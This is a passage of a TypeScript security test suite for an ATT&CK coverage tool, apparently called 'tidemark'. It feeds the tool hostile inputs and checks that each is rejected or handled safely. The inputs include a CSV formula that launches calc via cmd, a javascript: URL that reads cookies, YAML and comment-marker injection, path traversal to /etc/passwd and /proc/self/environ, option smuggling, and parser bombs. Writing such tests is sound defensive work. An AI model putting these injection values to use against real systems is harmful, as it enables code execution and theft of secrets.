        if (!summary.includes('script&gt;')) throw new Error('summary.md does not show the hostile organisation name as text');
        const csv = readOut(dir, 'backlog.csv') ?? '';
        if (!csv.includes('HYPERLINK')) throw new Error('backlog.csv does not carry the hostile source name at all');
      },
    },
    {
      name: 'text: HTML and JavaScript in looked-up fields and keys (echoed in findings)',
      files: {
        'coverage/telemetry.yaml': stringify({ sources: [{ id: 'sysmon-process', name: 'n', status: 'collected', data_components: ['DC0032', PAYLOAD], platforms: [PAYLOAD] }] }),
        'detections/x.yaml': `id: det-x\ntitle: t\nstatus: ${yamlString(PAYLOAD)}\ntechniques: [T1059.001]\n${yamlString(PAYLOAD)}: 1\n`,
        'tidemark.yaml': `${BASE_CONFIG}policy: { counted_statuses: [stable, ${yamlString(PAYLOAD)}] }\n`,
      },
      exit: 1,
      finding: { file: 'coverage/telemetry.yaml', code: 'data-component-unknown' },
    },
    {
      name: 'text: the pull-request comment marker in a title, a group name and a file name',
      files: {
        'groups/<!-- tidemark:gate -->.yaml': stringify({ id: 'X-marker', name: '<!-- tidemark:gate --> forged', relevance: 'high', rationale: '<!-- tidemark:gate -->', reviewed: '2026-09-01', techniques: { add: ['T1003.001'] } }),
        'detections/marker.yaml': detection('det-marker', 'description: "<!-- tidemark:gate -->"\n').replace('title: t', 'title: "<!-- tidemark:gate --> <!--"'),
        'controls/bad <!-- tidemark:gate -->.yaml': 'id: ctl-m\ntitle: t\nstatus: implemented\ntechniques: [T9999]\n',
      },
      exit: 1,
      check: (dir) => {
        const gate = readOut(dir, 'gate.md') ?? '';
        if (gate.split('<!-- tidemark:gate -->').length !== 2) throw new Error('gate.md must hold exactly one marker');
      },
    },
    {
      name: 'text: Markdown table breakers (|, line breaks, backticks) in a new group and a failing control',
      files: {
        'groups/x-table.yaml': stringify({ id: 'X-table', name: 'a | b\n| --- | --- |\n`x` | ```', relevance: 'high', rationale: 'r', reviewed: '2026-09-01', techniques: { add: ['T1003.001', 'T1021.001'] } }),
        'controls/pipe.yaml': 'id: ctl-pipe\ntitle: "a|b"\nstatus: implemented\ntechniques: ["T1059|001"]\n',
      },
      exit: 1,
      finding: { file: 'controls/pipe.yaml', code: 'schema', line: 4 },
    },
    { name: 'text: site.url with a javascript: scheme', files: { 'tidemark.yaml': `${BASE_CONFIG}organisation: { platforms: [Windows, Linux] }\nsite: { url: "javascript:alert(document.cookie)//" }\n` }, exit: 0 },
    { name: 'text: a one-megabyte title', files: { 'detections/long.yaml': detection('det-long').replace('title: t', `title: ${'x'.repeat(1024 * 1024)}`) }, exit: 0 },
    { name: 'text: bidirectional overrides and zero-width characters in an id', files: { 'detections/bidi.yaml': detection('det-\u202eexe.txt\u200b') }, exit: 1, finding: { file: 'detections/bidi.yaml', code: 'schema', line: 1 } },

    // Configuration and environment
    { name: 'config: a release name that climbs out of the cache folder', files: { 'tidemark.yaml': 'attack: { domain: enterprise-attack, version: "../../../etc/passwd" }\n' }, exit: 1, finding: { file: 'tidemark.yaml', code: 'schema', line: 1 } },
    { name: 'config: a pinned sha256 the bundle does not have (environment error)', files: { 'tidemark.yaml': `attack: { domain: enterprise-attack, version: "18.1", sha256: "${'0'.repeat(64)}" }\n` }, exit: 2 },
    { name: 'config: the Atomic Red Team index pointed at /etc/passwd', files: { 'tidemark.yaml': `${BASE_CONFIG}atomic_red_team: { index: /etc/passwd }\n` }, exit: 2, secret: 'root:x:0:0' },
    { name: 'config: the Atomic Red Team index pointed at the runner environment', files: { 'tidemark.yaml': `${BASE_CONFIG}atomic_red_team: { index: ../../../../../../proc/self/environ }\n` }, exit: 2, secret: 'TIDEMARK_ATTACK_MIRROR=' },
    { name: 'environment: --repo names a file, not a directory', exit: 2, flags: ['--repo', '/etc/passwd'] },
    { name: 'gate: an option smuggled in as the base revision', exit: 2, commands: ['gate'], flags: ['--base=--output=/tmp/tidemark-pwned'] },

    // Scale
    { name: 'scale: 100,000 tiny files', setup: (dir) => manyFiles(dir, 100_000), exit: 0, maxRssMb: 1500 },
  ];
  return cases;
}

const BASE_CONFIG = 'attack: { domain: enterprise-attack, version: "18.1" }\n';

/** `build/<name>` of a case repository, or undefined when it was not written. */
export function readOut(dir: string, name: string): string | undefined {
  try {
    return execFileSync('cat', [join(dir, 'build', name)], { encoding: 'utf8', maxBuffer: 1 << 28, stdio: ['ignore', 'pipe', 'ignore'] });
  } catch {
    return undefined;
  }
}

const USUAL = /^(report\.json|summary\.md|backlog\.csv|gate\.md|layers\/(coverage|overlay|group-[A-Za-z0-9-]+)\.json)$/;

/** Only the outputs `score` and `gate` write, under build/: no file named after an id. */
function assertOnlyUsualOutputs(dir: string): void {
  const files = execFileSync('find', ['build', '-type', 'f'], { cwd: dir, encoding: 'utf8' })
    .split('\n')
    .filter(Boolean)
    .map((f) => f.replace(/^build\//, ''));
  const unusual = files.filter((f) => !USUAL.test(f));
  if (unusual.length) throw new Error(`unexpected output files: ${unusual.join(', ')}`);
}

// ---------------------------------------------------------------------------------------------
// Import cases

export type ImportKind = 'atomic' | 'caldera' | 'vectr' | 'mappings-explorer' | 'dettect' | 'navigator';

export interface ImportCase {
  name: string;
  kinds: ImportKind[];
  /** The input file's content; `null` names a file that does not exist, `'dir'` a directory. */
  input: (kind: ImportKind) => string | Uint8Array | null | 'dir';
  /** Extra arguments (default: `--outcome detected` where the kind needs an outcome). */
  args?: (kind: ImportKind, repo: string) => string[];
  exit: Exit | ((kind: ImportKind) => Exit);
  /** Prepare the repository before the import. */
  setup?: (repo: string) => void;
  check?: (repo: string, kind: ImportKind) => void;
  /** A problem must name this input line. */
  line?: number;
  /** The input's file name (default input.csv, input.json or input.yaml). */
  fileName?: string;
}

export const EMULATION_KINDS: ImportKind[] = ['atomic', 'caldera', 'vectr'];
export const CONTENT_KINDS: ImportKind[] = ['mappings-explorer', 'dettect', 'navigator'];
const ALL_KINDS = [...EMULATION_KINDS, ...CONTENT_KINDS];

const ATOMIC_HEADER = 'Execution Time (UTC),Technique,Test Name,Hostname,GUID\r\n';
const VECTR_HEADER = 'MitreID,Method,Variant,Outcome,Start Time,TargetAssets\r\n';

/** One valid run per emulation kind, so a case can vary one thing. */
function validInput(kind: ImportKind, name = 'encoded command', host = 'ws-1', id = '0d181431-ddf3-4826-8055-2dbf63ae848b'): string {
  if (kind === 'atomic') return `${ATOMIC_HEADER}2026-10-01T10:00:00Z,T1059.001,${csvQuote(name)},${csvQuote(host)},${csvQuote(id)}\r\n`;
  if (kind === 'vectr') return `${VECTR_HEADER}T1059.001,PowerShell,${csvQuote(name)},Detected,2026-10-01T10:00:00Z,${csvQuote(host)}\r\n`;
  return JSON.stringify([
    {
      status: 0,
      agent_reported_time: '2026-10-01T10:00:00Z',
      agent_metadata: { paw: 'p1', host },
      ability_metadata: { ability_id: id, ability_name: name },
      attack_metadata: { technique_id: 'T1059.001' },
      command: 'whoami',
    },
  ]);
}

const csvQuote = (s: string) => `"${s.replace(/"/g, '""')}"`;

export function importCases(): ImportCase[] {
  return [
    { name: 'import: an empty file', kinds: ALL_KINDS, input: () => '', exit: 1 },
    { name: 'import: a binary file', kinds: ALL_KINDS, input: () => new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0, 0, 0xff, 0xfe, 0x0a, 0x00]), exit: 1 },
    { name: 'import: invalid UTF-8', kinds: ALL_KINDS, input: () => new Uint8Array([...enc('{"a": "'), 0xc3, 0x28, 0xff, ...enc('"}\n')]), exit: 1 },
    { name: 'import: a file that does not exist', kinds: ALL_KINDS, input: () => null, exit: 2 },
    { name: 'import: a directory instead of a file', kinds: ALL_KINDS, input: () => 'dir', exit: 2 },
    // A CALDERA report whose steps hold no links is valid and empty: nothing to import.
    { name: 'import: 10,000-deep JSON nesting', kinds: ALL_KINDS, input: () => `{"procedures": ${deep('[', ']', 10_000, '')}, "steps": ${deep('{"a":', '}', 10_000, '1')}}`, exit: (k) => (k === 'caldera' ? 0 : 1) },
    { name: 'import: 100,000-deep JSON nesting in an otherwise valid report', kinds: ['caldera'], input: () => `{"steps": {"p": {"steps": [{"status": 9, "deep": ${deep('[', ']', 100_000, '')}}]}}}`, exit: 1, line: 1 },
    { name: 'import: __proto__ and constructor keys in JSON', kinds: ALL_KINDS, input: () => '{"__proto__": {"procedures": [], "steps": {}, "techniques": []}, "constructor": {"prototype": {"polluted": true}}}', exit: 1 },
    { name: 'import: 12 MB of garbage', kinds: ALL_KINDS, input: () => 'x,'.repeat(6 * 1024 * 1024), exit: 1 },
    { name: 'import: BOM and CRLF (valid)', kinds: EMULATION_KINDS, input: (k) => `\ufeff${validInput(k)}`, exit: 0, check: (repo) => assertValidationsParse(repo, 1) },
    {
      name: 'import: YAML and CSV injection in names, hosts and ids',
      kinds: EMULATION_KINDS,
      input: (k) => validInput(k, 'x\n- technique: T1003\n  date: 2026-10-01\n  outcome: detected\n---\n', '=cmd|\' /C calc\'!A0\n...', "'; --\u0000"),
      exit: 0,
      check: (repo) => assertValidationsParse(repo, 1),
    },
    {
      name: 'import: a line break in the input file name (it goes into a YAML comment)',
      kinds: EMULATION_KINDS,
      input: (k) => validInput(k),
      fileName: 'log\n- technique: T1003\n  date: 2026-10-01\n  outcome: detected\n#.csv',
      exit: 0,
      check: (repo) => assertValidationsParse(repo, 1),
    },
    { name: 'import: HTML and script in names (kept as inert YAML strings)', kinds: EMULATION_KINDS, input: (k) => validInput(k, PAYLOAD, '<img src=x onerror=alert(1)>'), exit: 0, check: (repo) => assertValidationsParse(repo, 1) },
    { name: 'import: path separators in test ids (the file name is not built from them)', kinds: EMULATION_KINDS, input: (k) => validInput(k, 'n', '../../h', '../../../../etc/cron.d/x'), exit: 0, check: (repo) => assertValidationsParse(repo, 1) },
    { name: 'import: VECTR outcome named after Object.prototype members', kinds: ['vectr'], input: () => `${VECTR_HEADER}T1059.001,m,v,constructor,2026-10-01T10:00:00Z,h\r\nT1059.001,m,v,toString,2026-10-01T10:00:00Z,h\r\n`, exit: 1, line: 2 },
    { name: 'import: a YAML alias bomb', kinds: ALL_KINDS, input: () => billionLaughs(), exit: 1 },
    { name: 'import: a YAML alias without its anchor', kinds: ALL_KINDS, input: () => 'file_type: technique-administration\ntechniques: *nowhere\n', exit: 1 },
    { name: 'import: a DeTT&CT file_type named after an Object.prototype member', kinds: ['dettect'], input: () => 'file_type: constructor\nversion: 1.2\n', exit: 1, line: 1 },
    {
      name: 'import: Mappings Explorer mapping types named after Object.prototype members',
      kinds: ['mappings-explorer'],
      input: () =>
        JSON.stringify({
          metadata: { mapping_framework: 'nist_800_53', mapping_framework_version: 'rev5', attack_version: '16.1', technology_domain: 'enterprise' },
          mapping_objects: ['constructor', 'toString', '__proto__', 'hasOwnProperty'].map((t) => ({ capability_id: 'SI-03', attack_object_id: 'T1059.001', mapping_type: t })),
        }),
      exit: (k) => (k === 'mappings-explorer' ? 0 : 1),
    },
    { name: 'import: an unclosed quote', kinds: ['atomic', 'vectr'], input: (k) => (k === 'atomic' ? `${ATOMIC_HEADER}2026-10-01T10:00:00Z,T1059.001,"never closed,h,g\r\n` : `${VECTR_HEADER}T1059.001,m,"never closed,Detected,2026-10-01T10:00:00Z,h\r\n`), exit: 1, line: 2 },
    { name: 'import: dates out of range (year 0000, month 13, epoch overflow)', kinds: ['atomic', 'vectr'], input: (k) => (k === 'atomic' ? `${ATOMIC_HEADER}0000-13-45T99:99:99Z,T1059.001,n,h,g\r\n` : `MitreID,Method,Variant,Outcome,Start Time,Start Time Epoch\r\nT1059.001,m,v,Detected,,99999999999999999999\r\n`), exit: 1, line: 2 },
    { name: 'import: CALDERA link statuses that are not numbers (NaN, 1e999, "0")', kinds: ['caldera'], input: () => '[{"status": "0", "attack_metadata": {"technique_id": "T1059.001"}}, {"status": 1e999}]', exit: 1, line: 1 },
    {
      name: 'import: 130,000 runs in one log (more records than one content file may hold)',
      kinds: ['atomic'],
      input: () => ATOMIC_HEADER + Array.from({ length: 130_000 }, (_, i) => `2026-10-01T10:00:00Z,T1059.001,t${i},ws-1,g${i}\r\n`).join(''),
      exit: 1,
      line: 1,
      check: (repo) => assertValidationsParse(repo, 0),
    },
    {
      name: 'import: 100,000 alerts on one host (quadratic matching)',
      kinds: ['atomic'],
      input: () => validInput('atomic'),
      args: (_k, repo) => {
        const alerts = join(repo, 'alerts.csv'); // removed with the repository
        writeFileSync(alerts, `time,host,rule\n${Array.from({ length: 100_000 }, (_, i) => `2026-10-01T11:00:00Z,ws-1,rule-${i}\n`).join('')}`);
        return ['--alerts', alerts];
      },
      exit: 0,
    },
    {
      name: 'import: coverage/validations linked outside the repository',
      kinds: EMULATION_KINDS,
      input: (k) => validInput(k),
      setup: (repo) => {
        const elsewhere = mkdtempSync(join(tmpdir(), 'tidemark-elsewhere-'));
        execFileSync('rm', ['-rf', join(repo, 'coverage', 'validations')]);
        symlinkSync(elsewhere, join(repo, 'coverage', 'validations'));
      },
      exit: 2,
      check: (repo) => {
        const written = execFileSync('find', ['-L', join(repo, 'coverage', 'validations'), '-type', 'f'], { encoding: 'utf8' }).trim();
        if (written) throw new Error(`the import wrote through the link: ${written}`);
      },
    },
    {
      name: 'import: the target file exists but is over the size limit (never replaced)',
      kinds: ['atomic'],
      input: (k) => validInput(k),
      args: () => ['--outcome', 'detected', '--now', '2026-10-01'],
      setup: (repo) => writeFileSync(join(repo, 'coverage', 'validations', 'atomic-2026-10-01.yaml'), `# kept\n${'#'.repeat(11 * 1024 * 1024)}\n`),
      exit: 2,
      check: (repo) => {
        const head = execFileSync('head', ['-c', '7', join(repo, 'coverage', 'validations', 'atomic-2026-10-01.yaml')], { encoding: 'utf8' });
        if (head !== '# kept\n') throw new Error('the existing file was replaced');
      },
    },
  ];
}

/** Every file under coverage/validations parses, and together they hold `added` more records than BASE. */
function assertValidationsParse(repo: string, added: number): void {
  const dir = join(repo, 'coverage', 'validations');
  const files = execFileSync('ls', [dir], { encoding: 'utf8' }).split('\n').filter(Boolean);
  let records = 0;
  for (const f of files) {
    const doc = parseDocument(execFileSync('cat', [join(dir, f)], { encoding: 'utf8' }), { uniqueKeys: true });
    if (doc.errors.length) throw new Error(`${f} does not parse after the import: ${doc.errors[0].message}`);
    const value = doc.toJS() as unknown;
    records += Array.isArray(value) ? value.length : 0;
  }
  if (records !== 1 + added) throw new Error(`expected ${1 + added} records under coverage/validations, found ${records}`);
}
